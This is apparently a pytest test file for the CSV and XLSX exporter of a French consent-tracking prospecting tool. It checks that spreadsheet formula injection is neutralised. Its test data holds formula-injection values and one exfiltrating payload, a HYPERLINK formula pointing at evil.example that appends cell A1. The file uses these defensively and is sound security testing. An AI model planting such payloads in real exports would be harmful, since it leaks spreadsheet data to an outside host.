"""Qualified files out: headers, dialects, filters, formula injection, xlsx cells, office suite."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from prospect_tui.cli import main
from prospect_tui.core import UserError
from prospect_tui.core.consent import record_optout
from prospect_tui.core.exporter import (
    CALL_HEADERS,
    OPTIN_HEADERS,
    export_calls,
    export_optins,
    neutralize_cell,
    restore_cell,
)
from prospect_tui.core.store import Store
from tests.helpers import A_SUPERVISOR
from tests.unit.consent_data import opt_in

PEOPLE = [
    {
        "company": "=1+1",
        "phone": "01 42 68 53 00",
        "email": "j.dupont@dupont-sa.fr",
        "city": "Évreux",
        "note": "-rappeler le DSI",
    },
    {
        "company": "Société Générale d'Électricité",
        "phone": "04 78 12 34 56",
        "email": "héloïse.noël@électricité-lyon.fr",
        "city": "Saint-Étienne",
    },
    {
        "company": "@SUM(A1:A9)",
        "phone": "06 12 34 56 78",
        "email": "dsi@martin.fr",
        "city": "Besançon",
    },
]


def read_csv(path: Path, excel: bool = True) -> list[list[str]]:
    raw = path.read_bytes()
    if excel:
        assert raw.startswith(b"\xef\xbb\xbf")
        text = raw.decode("utf-8-sig")
    else:
        assert not raw.startswith(b"\xef\xbb\xbf")
        text = raw.decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if excel else ","))


@pytest.fixture
def opted(store: Store) -> Store:
    opt_in(store, PEOPLE)
    return store


def test_optins_csv_for_french_excel(opted, tmp_path):
    out = tmp_path / "optins.csv"
    assert export_optins(opted, out, actor=A_SUPERVISOR) == 3
    raw = out.read_bytes()
    lines = raw.decode("utf-8-sig").split("\r\n")
    assert lines[0] == ";".join(f'"{h}"' for h in OPTIN_HEADERS)  # every field quoted
    assert lines[-1] == "" and len(lines) == 5  # CRLF after every row, nothing else
    assert b"\r\n" in raw and b"\n" not in raw.replace(b"\r\n", b"")
    rows = read_csv(out)
    assert rows[0] == list(OPTIN_HEADERS)
    first = dict(zip(OPTIN_HEADERS, rows[1], strict=True))
    assert first == {
        "company": "'=1+1",
        "contact_name": "",
        "email": "j.dupont@dupont-sa.fr",
        "phone_e164": "'+33142685300",
        "phone_national": "01 42 68 53 00",
        "city": "Évreux",
        "campaign": "Printemps",
        "consent_at": "2026-11-23T10:00:00Z",
        "caller": "Élodie",
        "consent_text": first["consent_text"],
    }
    assert first["consent_text"].startswith("Acceptez-vous de recevoir par e-mail")
    second = dict(zip(OPTIN_HEADERS, rows[2], strict=True))
    assert second["company"] == "Société Générale d'Électricité"
    assert second["email"] == "héloïse.noël@électricité-lyon.fr"
    assert dict(zip(OPTIN_HEADERS, rows[3], strict=True))["company"] == "'@SUM(A1:A9)"


def test_optins_plain_rfc4180_csv(opted, tmp_path):
    out = tmp_path / "optins.csv"
    assert export_optins(opted, out, excel_dialect=False, actor=A_SUPERVISOR) == 3
    assert out.read_bytes().startswith(b"company,contact_name,email,phone_e164,")
    rows = read_csv(out, excel=False)
    assert rows[0] == list(OPTIN_HEADERS) and len(rows) == 4
    assert rows[2][0] == "Société Générale d'Électricité" and rows[1][0] == "'=1+1"


def test_calls_csv(opted, tmp_path, clock):
    with opted.write() as conn:  # an undone call never reaches the file
        conn.execute("UPDATE calls SET undone_at = ? WHERE id = 3", (opted.now(),))
    out = tmp_path / "calls.csv"
    assert export_calls(opted, out, actor=A_SUPERVISOR) == 2
    rows = read_csv(out)
    assert rows[0] == list(CALL_HEADERS)
    assert rows[1] == [
        "2026-11-23T09:58:25Z",
        "Élodie",
        "Printemps",
        "'=1+1",
        "'+33142685300",
        "opt_in",
        "95",
        "'-rappeler le DSI",
        "",
    ]


def test_only_the_latest_granted_and_unsuppressed_consent_is_exported(opted, tmp_path):
    record_optout(opted, ["dsi@martin.fr"], caller="me")
    with opted.write() as conn:  # a number on the do-not-call list from elsewhere
        from prospect_tui.core.suppression import suppress

        suppress(conn, "phone", "+33478123456", "do_not_call", "x", opted.now())
    out = tmp_path / "optins.csv"
    assert export_optins(opted, out, actor=A_SUPERVISOR) == 1
    assert [row[2] for row in read_csv(out)[1:]] == ["j.dupont@dupont-sa.fr"]


def test_filters_campaign_since_caller(store, clock, tmp_path):
    opt_in(store, PEOPLE[:1], campaign="Printemps", caller="Élodie")
    clock.advance(days=10)
    opt_in(store, PEOPLE[1:2], campaign="Automne", caller="Marc")
    out = tmp_path / "o.csv"

    def emails(**filters) -> list[str]:
        export_optins(store, out, **filters, actor=A_SUPERVISOR)
        return [row[2] for row in read_csv(out)[1:]]

    assert len(emails()) == 2
    assert emails(campaign="Automne") == ["héloïse.noël@électricité-lyon.fr"]
    assert emails(caller="Élodie") == ["j.dupont@dupont-sa.fr"]
    assert emails(since="2026-11-24") == ["héloïse.noël@électricité-lyon.fr"]
    assert emails(since="2026-12-03T10:00:00+00:00") == ["héloïse.noël@électricité-lyon.fr"]
    assert emails(since="2026-12-04") == []
    with pytest.raises(UserError, match="unknown campaign"):
        export_optins(store, out, campaign="Nope", actor=A_SUPERVISOR)
    with pytest.raises(UserError, match="--since"):
        export_optins(store, out, since="last week", actor=A_SUPERVISOR)
    # Missing folders are made owner-only; the file is 0600.
    assert export_optins(store, tmp_path / "no" / "such" / "dir.csv", actor=A_SUPERVISOR) == 2
    assert (tmp_path / "no").stat().st_mode & 0o777 == 0o700
    assert (tmp_path / "no" / "such" / "dir.csv").stat().st_mode & 0o777 == 0o600


def test_cli_options_and_stdout(opted, capsysbinary):
    db = ["--db", str(opted.path)]
    assert main([*db, "export", "optins", "--excel-dialect=no", "--caller", "Élodie"]) == 0
    out = capsysbinary.readouterr().out
    assert out.startswith(b"company,contact_name,") and "Évreux".encode() in out
    assert main([*db, "export", "optins", "--since", "2027-01-01"]) == 0
    out = capsysbinary.readouterr().out
    # stdout gets the same Excel dialect as a file: `> optins.csv` opens right too.
    assert out.startswith('\ufeff"company";'.encode()) and out.count(b"\r\n") == 1
    assert main([*db, "export", "optins", "--since", "hier"]) == 2


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+33142685300", "-2", "@SUM(A1)", "\tx", "\rx", "\nx", "'=x", "''+y", "'abc", "a=b"],
)
def test_neutralize_is_safe_and_exactly_reversible(value):
    safe = neutralize_cell(value)
    assert safe[0] not in "=+-@\t\r\n"
    assert restore_cell(safe) == value
    assert restore_cell(value) == value or value.startswith("'")


@pytest.mark.parametrize(
    "value",
    ["Acme;=1+1", "a,'=b", "x\n-y", "\t\t", "a;;@b", "Dupont, Martin", "r\r\n+1", "k;''-z"],
)
def test_no_split_of_a_neutralised_cell_starts_a_formula(value):
    safe = neutralize_cell(value)
    for separator in (",", ";", "\t", "\n", "\r"):
        for piece in safe.split(separator):
            assert not piece or piece[0] not in "=+-@", (separator, piece)
    assert restore_cell(safe) == value


@pytest.mark.parametrize("excel", ["yes", "no"])
def test_hostile_names_come_back_as_written(store, tmp_path, excel):
    from prospect_tui.core.importing import import_file

    opt_in(store, HOSTILE)
    out = tmp_path / "optins.csv"
    assert (
        main(
            ["--db", str(store.path), "export", "optins", "--excel-dialect", excel, "-o", str(out)]
        )
        == 0
    )
    again = Store(tmp_path / "again.db")
    assert import_file(again, out, campaign="Relance", actor=A_SUPERVISOR).imported == len(HOSTILE)
    companies = [r[0] for r in again.conn.execute("SELECT company FROM leads ORDER BY phone_e164")]
    assert companies == [p["company"] for p in HOSTILE]


def test_xlsx_text_cells_frozen_filtered_header(opted, tmp_path):
    out = tmp_path / "optins.xlsx"
    assert export_optins(opted, out, fmt="xlsx", actor=A_SUPERVISOR) == 3
    sheet = load_workbook(out).active
    assert [c.value for c in sheet[1]] == list(OPTIN_HEADERS)
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:J4"
    company, _, email, e164, national = sheet[2][:5]
    assert (company.value, company.data_type, company.quotePrefix) == ("=1+1", "s", True)
    assert (e164.value, e164.data_type, e164.quotePrefix) == ("+33142685300", "s", True)
    assert (national.value, national.data_type) == ("01 42 68 53 00", "s")
    assert email.value == "j.dupont@dupont-sa.fr" and not email.quotePrefix
    assert sheet["A3"].value == "Société Générale d'Électricité"
    assert sheet["C3"].value == "héloïse.noël@électricité-lyon.fr"
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row if c.value)


def test_xlsx_needs_a_file(opted):
    with pytest.raises(UserError, match="-o"):
        export_optins(opted, None, fmt="xlsx", actor=A_SUPERVISOR)


@pytest.mark.parametrize(
    "fmt",
    [
        "csv",
        "xlsx",
    ],
)
def test_export_reimports_without_loss(opted, tmp_path, fmt):
    from prospect_tui.core.importing import import_file

    out = tmp_path / f"optins.{fmt}"
    export_optins(opted, out, fmt=fmt, actor=A_SUPERVISOR)
    again = Store(tmp_path / "again.db")
    report = import_file(again, out, campaign="Relance", actor=A_SUPERVISOR)
    assert report.imported == 3 and report.invalid_phone == 0
    fields = "company, phone_e164, phone_national, city, email"
    before = opted.rows(f"SELECT {fields} FROM leads ORDER BY phone_e164")
    after = again.rows(f"SELECT {fields} FROM leads ORDER BY phone_e164")
    for row in before:  # the export's email is the consent's, not the lead's (empty here)
        row["email"] = next(p["email"] for p in PEOPLE if p["company"] == row["company"])
    assert after == before


# A real office suite reads the files


def _soffice() -> str:
    """LibreOffice's binary (.ci/run installs it); without it the office tests are skipped."""
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if not found:
        pytest.skip("LibreOffice is not installed (.ci/run installs libreoffice-calc-nogui)")
    return found


def _office_reads(soffice: str, source: Path, tmp_path: Path, infilter: str | None) -> list:
    """The cells LibreOffice sees, re-saved by it as a plain UTF-8 CSV."""
    out = tmp_path / f"lo-{source.suffix[1:]}"
    command = [
        soffice,
        f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
        "--headless",
        "--convert-to",
        "csv:Text - txt - csv (StarCalc):44,34,76,1",  # comma, double quote, UTF-8
        "--outdir",
        str(out),
        str(source),
    ]
    if infilter:
        command[3:3] = [f"--infilter={infilter}"]
    subprocess.run(command, capture_output=True, timeout=180, check=True)
    text = (out / f"{source.stem}.csv").read_text(encoding="utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.office
def test_libreoffice_opens_the_csv_and_the_xlsx(opted, tmp_path):
    soffice = _soffice()
    export_optins(opted, tmp_path / "optins.csv", actor=A_SUPERVISOR)
    export_optins(opted, tmp_path / "optins.xlsx", fmt="xlsx", actor=A_SUPERVISOR)
    # What a user picks in the import dialog: semicolon, double quote, UTF-8 (76), from row 1.
    from_csv = _office_reads(soffice, tmp_path / "optins.csv", tmp_path, "CSV:59,34,76,1")
    from_xlsx = _office_reads(soffice, tmp_path / "optins.xlsx", tmp_path, None)
    for rows in (from_csv, from_xlsx):
        assert rows[0] == list(OPTIN_HEADERS)
        assert len(rows) == 1 + len(PEOPLE)  # one row per opt-in
        cells = [dict(zip(OPTIN_HEADERS, row, strict=True)) for row in rows[1:]]
        assert [c["city"] for c in cells] == ["Évreux", "Saint-Étienne", "Besançon"]
        assert cells[1]["company"] == "Société Générale d'Électricité"
        assert cells[1]["email"] == "héloïse.noël@électricité-lyon.fr"
        assert cells[0]["caller"] == "Élodie"
        assert [c["phone_national"] for c in cells] == [
            "01 42 68 53 00",
            "04 78 12 34 56",
            "06 12 34 56 78",
        ]
        # Not evaluated: a formula would read 2 and 33142685300.
        assert [restore_cell(c["company"]) for c in cells[::2]] == ["=1+1", "@SUM(A1:A9)"]
        assert restore_cell(cells[0]["phone_e164"]) == "+33142685300"
    # xlsx: exactly the text. CSV: LibreOffice shows the OWASP apostrophe (Excel hides it).
    assert from_xlsx[1][0] == "=1+1" and from_xlsx[1][3] == "+33142685300"
    assert from_csv[1][0] == "'=1+1" and from_csv[1][3] == "'+33142685300"


def test_bench_export_runs(tmp_path):
    """The benchmark script seeds and exports (tiny size here: timing is not a test)."""
    script = Path(__file__).resolve().parents[2] / "scripts" / "bench_export.py"
    done = subprocess.run(
        [sys.executable, str(script), "--optins", "50", "--repeat", "1"],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    assert "xlsx" in done.stdout and "50 rows" in done.stdout


# Any split a reader may make: French Excel's `;`, a plain `,`, and tab.
SPLITS = {"semicolon": "59", "comma": "44", "tab": "9"}
HOSTILE = [
    {"company": "Acme;=1+1", "phone": "01 42 68 53 01", "email": "a@acme.fr"},
    {"company": "Acme,=2+2", "phone": "01 42 68 53 02", "email": "b@acme.fr"},
    {"company": "Acme\t=3+3", "phone": "01 42 68 53 03", "email": "c@acme.fr"},
    {"company": "Acme\n=4+4", "phone": "01 42 68 53 04", "email": "d@acme.fr"},
    {"company": "Acme; -5+5", "phone": "01 42 68 53 05", "email": "e@acme.fr"},
    {"company": "Acme;@SUM(1;2)", "phone": "01 42 68 53 06", "email": "f@acme.fr"},
]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"clic")'


def _formula_cells(soffice: str, sources: list[Path], tmp_path: Path, split: str) -> dict:
    """How many cells LibreOffice holds as formulas once it opened each CSV with `split`.

    It evaluates formulas on import by default; re-saved as xlsx, an evaluated cell is a
    formula cell there.
    """
    out = tmp_path / f"lo-{split}"
    command = [
        soffice,
        f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
        "--headless",
        f"--infilter=CSV:{SPLITS[split]},34,76,1",
        "--convert-to",
        "xlsx",
        "--outdir",
        str(out),
        *map(str, sources),
    ]
    subprocess.run(command, capture_output=True, timeout=300, check=True)
    found = {}
    for source in sources:
        book = load_workbook(out / f"{source.stem}.xlsx")
        cells = [cell for row in book.active.iter_rows() for cell in row]
        assert any(cell.value for cell in cells), source  # LibreOffice did read it
        found[source.name] = sum(1 for cell in cells if cell.data_type == "f")
    return found


@pytest.mark.office
def test_libreoffice_evaluates_no_formula_in_any_dialect_or_split(store, tmp_path):
    """Before: `--excel-dialect no` wrote `Acme;=1+1` unquoted (24 formula cells), and
    `stats --csv` a caller named =HYPERLINK(...) as a live formula."""
    soffice = _soffice()
    opt_in(store, HOSTILE, caller=HYPERLINK)
    store.conn.commit()
    db = ["--db", str(store.path)]
    files = {
        "excel.csv": [*db, "export", "optins"],
        "plain.csv": [*db, "export", "optins", "--excel-dialect", "no"],
        "calls.csv": [*db, "export", "calls"],
    }
    for name, args in files.items():
        assert main([*args, "-o", str(tmp_path / name)]) == 0
    done = subprocess.run(
        [sys.executable, "-m", "prospect_tui", *db, "stats", "--csv"],
        capture_output=True,
        check=True,
        env={**os.environ, "PROSPECT_CONFIG": str(tmp_path / "none.toml")},
    )
    (tmp_path / "stats.csv").write_bytes(done.stdout)
    assert b"HYPERLINK" in done.stdout
    sources = [tmp_path / name for name in [*files, "stats.csv"]]
    for split in SPLITS:
        assert _formula_cells(soffice, sources, tmp_path, split) == dict.fromkeys(
            (s.name for s in sources), 0
        ), split


@pytest.mark.office
def test_the_formula_counter_sees_a_live_formula(tmp_path):
    """The check above can fail: an unneutralised cell is counted."""
    soffice = _soffice()
    live = tmp_path / "live.csv"
    live.write_text("company;city\r\nAcme;=1+1\r\n", encoding="utf-8")
    assert _formula_cells(soffice, [live], tmp_path, "semicolon") == {"live.csv": 1}
